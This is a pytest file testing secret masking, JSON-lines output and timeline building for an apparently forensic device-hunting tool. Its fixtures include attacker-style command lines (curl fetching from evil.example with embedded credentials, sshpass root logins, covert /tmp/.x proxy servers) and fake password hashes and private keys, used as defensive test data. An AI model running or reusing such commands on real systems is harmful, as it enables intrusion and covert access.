"""Parts of the report: masking of secrets, JSON lines, the timeline, words."""

from __future__ import annotations

import errno
import json
import os
import time
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import pytest

from devicehunt.errors import CaseError
from devicehunt.model import LEVELS, Coverage, Evidence
from devicehunt.report import Device, Event, Item, html, jsonl, terminal, view
from devicehunt.report.timeline import LIMIT, build, named
from devicehunt.report.words import duration, phrases, subject
from tests.report_samples import CLOCK, HOSTILE, Page, finding, sample

HASH = "$6$saltsalt$" + "Qx" * 43

# == secrets ==

ANYWHERE = [
    (f"root:{HASH}:19000:0:99999:7:::", "QxQx", "root:$6$"),
    ("  701 root  S  /tmp/.x -s 0.0.0.0 -p 8388 -m aes-256-gcm -k hunter2", "hunter2", "8388"),
    ("/tmp/.x|-p|8388|-k|hunter2|-m|chacha20-ietf-poly1305", "hunter2", "8388"),
    ("/tmp/.x\\x00-m\\x00aes-256-gcm\\x00-k\\x00hunter2\\x00-p\\x008388", "hunter2", "8388"),
    ("microsocks -p 1080 -u joe -P hunter2", "hunter2", "-p 1080"),
    ("sshpass -phunter2 ssh root@192.0.2.7", "hunter2", "root@192.0.2.7"),
    ("curl -fsSL https://joe:hunter2@evil.example/x", "hunter2", "evil.example/x"),
    ("curl -u joe:hunter2 https://evil.example/x", "hunter2", "joe"),
    ("relay --auth-key=hunter2 --listen 0.0.0.0:99", "hunter2", "0.0.0.0:99"),
    ("PrivateKey = yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", "yAnz5TF", "PrivateKey"),
    (
        "network.wg0.private_key='/Anz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk='",
        "Anz5TF",
        "network.wg0",
    ),
    ("wireless.radio0.key='my wifi pass'", "wifi pass", "wireless.radio0.key"),
    ("psk=hunter2hunter2", "hunter2", "psk"),
    ('"password": "hunter2", "user": "joe"', "hunter2", "joe"),
    ("HOME=/root PASSWORD=hunter2 SHELL=/bin/sh", "hunter2", "PASSWORD"),
    ("Authorization: Basic am9lOmh1bnRlcjI=", "am9l", "Authorization"),
    ("pppd plugin rp-pppoe.so user joe password hunter2 nodetach", "hunter2", "joe"),
    ("users admin:CL:hunter2", "hunter2", "admin"),
    ("rocommunity hunter2 192.0.2.0/24", "hunter2", "192.0.2.0/24"),
]


ALONE = [  # known only as a line of its own
    ("root:!$1$ab$Zk3yTpPq:19000:0:99999:7:::", "Zk3yTpPq", "root:"),
    ("admin:aaB8nI9kkLm2s:0:0:x:/:/bin/sh", "aaB8nI9kkLm2s", ":/bin/sh"),
    ("wl0_wpa_psk=my wifi pass", "wifi pass", "wl0_wpa_psk"),
    ("http_passwd=a=1 2", "a=1", "http_passwd"),
    ("\toption password 'hunter2'", "hunter2", "option password"),
    ('"joe" * "hunter2" *', "hunter2", "joe"),
    (
        "wg0\tyAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=\txTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=\t51820\toff",
        "yAnz5TF",
        "xTIBA5r",
    ),
]


@pytest.mark.parametrize(("text", "secret", "kept"), ANYWHERE + ALONE)
def test_secrets_are_masked_everywhere(tmp_path: Path, text: str, secret: str, kept: str) -> None:
    leaky = finding(
        title=f"Found: {text}" if (text, secret, kept) in ANYWHERE else text,
        evidence=(Evidence("rtr1/1/a.txt", 3, text),),
        key=(text,),
        subjects=(
            {"type": "process", "pid": 1, "name": text},
            {"type": "setting", "path": "x_psk", "value": "Zz9secret"},
        ),
        explanation=text,
        response=text,
    )
    result = replace(
        sample(),
        findings=[leaky, replace(leaky, explained_by="owner", id="f" * 16)],
        coverage=[Coverage("rtr1", "1", "r", "not-assessable", core=True, reasons=(text,))],
        events=[Event("rtr1", "1", "process", text, "a", 1, CLOCK)],
        jobs=[Item("rtr1", "1", "a", 1, text, {"command": text})],
        context=lambda _e, n, _a: [(n - 1, text, False), (n, text, True)],
    )
    jsonl.write_findings(tmp_path / "findings.jsonl", result.findings)
    jsonl.write_coverage(tmp_path / "coverage.jsonl", result.coverage)
    outputs = [
        terminal.render(result, colour=False, width=100, everything=True),
        html.render(result),
        (tmp_path / "findings.jsonl").read_text(encoding="utf-8"),
        (tmp_path / "coverage.jsonl").read_text(encoding="utf-8"),
    ]
    for output in outputs:
        assert secret not in output
        assert "[masked]" in output
    assert not any("Zz9secret" in output for output in outputs)
    assert kept in jsonl.finding_json(leaky)["evidence"][0]["text"]


@pytest.mark.parametrize(
    "text",
    [
        "tcp        0      0 0.0.0.0:8443           0.0.0.0:*       LISTEN      4711/kworker",
        " 4711 root      2564 S    {a} [kworker/0:2H] -i 0.0.0.0 -p 51950",
        "root:x:0:0:root:/root:/bin/ash",
        "daemon:*:0:0:99999:7:::",
        "nobody:!:0:0:99999:7:::",
        "r authpriv.notice dropbear[1517]: Password auth succeeded for 'root' from 192.0.2.1:5555",
        "r authpriv.notice dropbear[1517]: Pubkey auth succeeded for 'root' with key SHA256:abc",
        "dropbear.@dropbear[0].RootPasswordAuth='on'",
        "network.wg0.public_key='xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg='",
        "-A INPUT -p tcp -m tcp --dport 22 -j ACCEPT",
        "-A zone_wan_prerouting -p tcp -j DNAT --to-destination 192.0.2.9:443",
        "* * * * * /tmp/x -k",
        "    link/ether b6:10:98:78:fa:67 brd ff:ff:ff:ff:ff:ff",
        "    inet6 fd2d:ab8c:225:0:81d3:fd3e:7f62:aec8/64 scope global",
        "PWD=/tmp OLDPWD=/root HOME=/root",
        "Dispatch Password Requests to Console",
        "*/5 * * * * root /usr/bin/backup --config /etc/backup.conf",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJ1dCBub3QgYSByZWFsIGtleSBhdCBhbGwgaGVyZQ joe@office",
        "d41d8cd98f00b204e9800998ecf8427e  /usr/sbin/dnsmasq",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "lrwxrwxrwx 1 root root 0 Jan 1 00:00 /proc/7/exe -> /var/run/a (deleted)",
        "ipv4 2 tcp 6 431999 ESTABLISHED src=192.0.2.1 dst=192.0.2.2 sport=1 dport=2 mark=0 use=2",
        "curl -k https://192.0.2.1:8443/a",
    ],
)
def test_honest_lines_are_left_alone(text: str) -> None:
    assert jsonl.finding_json(finding(title=text))["title"] == text


def test_a_private_key_in_context_is_masked_to_its_last_line() -> None:
    body = ["b3BlbnNzaC1rZXktdjEA" * 3, "c2hvcnQ="]
    whole = [
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        *body,
        "-----END OPENSSH PRIVATE KEY-----",
        "after",
    ]
    for lines in (whole, whole[1:]):
        rows = [(n, text, n == 2) for n, text in enumerate(lines, 1)]
        made = html.render(replace(sample(), context=lambda _e, _n, _a, rows=rows: rows))
        assert body[0] not in made
        assert body[1] not in made
        assert "<code>after</code>" in made


def test_masking_takes_no_time_on_lines_made_to_be_slow() -> None:
    slow = [
        "a" * 4096,
        "pass" * 1024,
        "a.b-c_" * 700,
        "key= " * 800,
        "://:" * 1024,
        "--key " * 700,
        "$1$" * 1300,
        "ss-server " * 400 + " -k",
        "curl -u " * 500,
        "passwd='" * 500,
        "a:" * 2048,
        " " * 4096 + "=",
        "sshpass " * 500,
    ]
    begin = time.perf_counter()
    for text in slow:
        assert jsonl.finding_json(finding(title=text))["title"]
    assert time.perf_counter() - begin < 5


# == JSON lines ==


def test_findings_come_back(tmp_path: Path) -> None:
    path = jsonl.write_findings(tmp_path / "findings.jsonl", sample().findings)
    rows = [json.loads(row) for row in path.read_text(encoding="ascii").splitlines()]
    assert all(list(row) == sorted(row) for row in rows)
    keys = "id rule title level device snapshot key subjects evidence attack falsepositives"
    assert {*keys.split(), "response", "explained_by", "versions"} <= set(rows[0])
    assert rows[0]["evidence"] == [
        {"exhibit": "rtr1/1/02-netstat.txt", "line": 5, "text": "tcp 0 0 0.0.0.0:4000 LISTEN 700/x"}
    ]
    assert jsonl.read_findings(tmp_path / "findings.jsonl") == list(sample().findings)
    jsonl.write_coverage(tmp_path / "coverage.jsonl", sample().coverage)
    assert sorted(jsonl.read_coverage(tmp_path / "coverage.jsonl"), key=lambda c: c.rule) == sorted(
        sample().coverage, key=lambda c: c.rule
    )


def test_a_hunt_that_found_nothing_writes_its_files(tmp_path: Path) -> None:
    assert jsonl.write_findings(tmp_path / "new" / "findings.jsonl", []).read_bytes() == b""
    assert jsonl.read_findings(tmp_path / "new" / "findings.jsonl") == []


def test_hostile_text_is_one_line_of_json(tmp_path: Path) -> None:
    found = [finding(title=text, number=n) for n, text in enumerate(HOSTILE.values())]
    data = jsonl.write_findings(tmp_path / "findings.jsonl", found).read_bytes()
    assert data.isascii()
    assert data.count(b"\n") == len(found)
    assert len(jsonl.read_findings(tmp_path / "findings.jsonl")) == len(found)


@pytest.mark.parametrize("call", ["fsync", "replace"])
def test_a_full_disk_keeps_what_was_stored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, call: str
) -> None:
    path = jsonl.write_findings(tmp_path / "findings.jsonl", [finding()])
    before = path.read_bytes()

    def full(*_: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(*((os, "fsync") if call == "fsync" else (Path, "replace")), full)
    with pytest.raises(CaseError, match="No space left"):
        jsonl.write_findings(tmp_path / "findings.jsonl", [finding(number=1), finding(number=2)])
    assert path.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["findings.jsonl"]


@pytest.mark.parametrize(
    "text", ["{", "[]", '{"id": "x"}', '{"evidence": [], "nonsense": 1}', "\x00"]
)
def test_a_damaged_file_is_named(tmp_path: Path, text: str) -> None:
    (tmp_path / "findings.jsonl").write_text(text + "\n", encoding="utf-8")
    with pytest.raises(CaseError, match=r"findings\.jsonl:1"):
        jsonl.read_findings(tmp_path / "findings.jsonl")
    with pytest.raises(CaseError, match="cannot read"):
        jsonl.read_coverage(tmp_path / "coverage.jsonl")


# == timeline ==


def test_timeline_corrects_the_device_clock() -> None:
    (device,) = sample().devices
    timeline = build([device], sample().events, set())
    # clock 12:00, up one hour, 60 s after the start, two hours ahead
    assert [(f"{r.when:%H:%M:%S}", r.kind) for r in timeline.rows] == [
        ("09:00:00", "boot"),
        ("09:01:00", "process"),
    ]
    assert timeline.corrected
    raw = build([replace(device, clock_skew_ms=None)], sample().events, set())
    assert [f"{r.when:%H:%M}" for r in raw.rows] == ["11:00", "11:01"]
    assert not raw.corrected


@pytest.mark.parametrize(
    ("printed", "placed"),
    [
        ("Feb 28 03:40", "2026-02-28 03:40:00"),
        ("Mar  1 12:00:59", "2026-03-01 12:00:59"),
        ("Mar  3 12:00", "2025-03-03 12:00:00"),
        ("Feb 29 01:02", "2024-02-29 01:02:00"),
        ("Dec 31 23:59", "2025-12-31 23:59:00"),
        ("Feb 30 01:02", None),
        ("Foo 12 01:02", None),
        ("Jan  1 25:02", None),
        ("yesterday", None),
    ],
)
def test_times_without_a_year_are_placed_by_the_device_clock(
    printed: str, placed: str | None
) -> None:
    event = Event("r", "1", "file", "/x", "e", 1, printed=printed)
    timeline = build([Device("r", "1", clock=CLOCK)], [event], set())
    assert [f"{r.when:%Y-%m-%d %H:%M:%S}" for r in timeline.rows] == ([placed] if placed else [])
    assert "without a year" in timeline.clock
    assert len(timeline.undated) == (0 if placed else 1)


def test_timeline_marks_what_findings_name() -> None:
    names = named([finding()])
    events = [
        Event("rtr1", "1", "process", "x", "other.txt", 1, CLOCK, pid=700),
        Event("rtr1", "1", "file", "/usr/sbin/x", "other.txt", 2, CLOCK),
        Event("rtr1", "1", "login", "root", "rtr1/1/02-netstat.txt", 5, CLOCK),
        Event("rtr1", "1", "file", "/usr/sbin/y", "other.txt", 3, CLOCK),
    ]
    marked = {r.text for r in build([], events, names).rows if r.cited}
    assert marked == {"x", "/usr/sbin/x", "root"}


def test_timeline_folds_an_unpacked_image_and_keeps_what_is_named() -> None:
    files = [Event("r", "1", "file", f"/etc/{n}", "e", n, CLOCK) for n in range(100)]
    (row, own) = build(
        [], [*files, Event("r", "1", "file", "/etc/evil", "e", 500, CLOCK)], {"/etc/evil"}
    ).rows
    assert {row.cited, own.cited} == {True, False}
    assert "100 files" in row.text + own.text


def test_timeline_has_a_limit_and_says_so() -> None:
    files = [
        Event("r", "1", "file", f"/etc/{n}", "e", n, CLOCK + timedelta(minutes=n))
        for n in range(LIMIT + 50)
    ]
    timeline = build([], files, {"/etc/0"})
    assert len(timeline.rows) == LIMIT
    assert timeline.left_out == 50
    assert timeline.rows[0].text == "/etc/0"


def test_rows_without_a_time_are_not_lost() -> None:
    timeline = build([], [Event("r", "1", "process", "x", "e", 1, None, 500)], set())
    assert timeline.rows == ()
    assert len(timeline.undated) == 1
    page = Page(html.render(replace(sample(), devices=[Device("rtr1", "1")]))).said()
    assert "Without a time (1 row): x -l (pid 700)" in page


# == words ==


@pytest.mark.parametrize(
    ("seconds", "said"),
    [
        (0, "0 seconds"),
        (59.9, "59 seconds"),
        (3600, "1 hour"),
        (90_061, "1 day 1 hour"),
        (86_405, "1 day"),
        (-61, "1 minute 1 second"),
    ],
)
def test_durations(seconds: float, said: str) -> None:
    assert duration(seconds) == said


def test_every_level_and_verdict_has_words() -> None:
    assert set(phrases()["levels"]) == set(LEVELS)
    assert set(phrases()["verdicts"]) == set(view.ORDER)
    assert all({"word", "means", "not"} <= set(words) for words in phrases()["verdicts"].values())


def test_subjects_are_short_and_typed() -> None:
    assert (
        subject({"type": "process", "pid": 7, "name": "a", "exe": "/tmp/a"})
        == "process 7 a (/tmp/a)"
    )
    assert subject({"type": "socket", "proto": "tcp", "local_port": 80}) == "tcp *:80"
    assert (
        subject({"type": "carrier", "proto": "tcp", "carried": [1, 2]})
        == "carrier proto tcp, carried 2"
    )
    assert subject({"type": "setting", "path": "no logging on"}) == "setting no logging on"
    assert subject({"type": "setting", "path": "ip http", "value": "on"}) == "setting ip http = on"
    assert subject({"type": "ssh-key", "comment": "ivo@laptop"}) == "SSH key (ivo@laptop)"
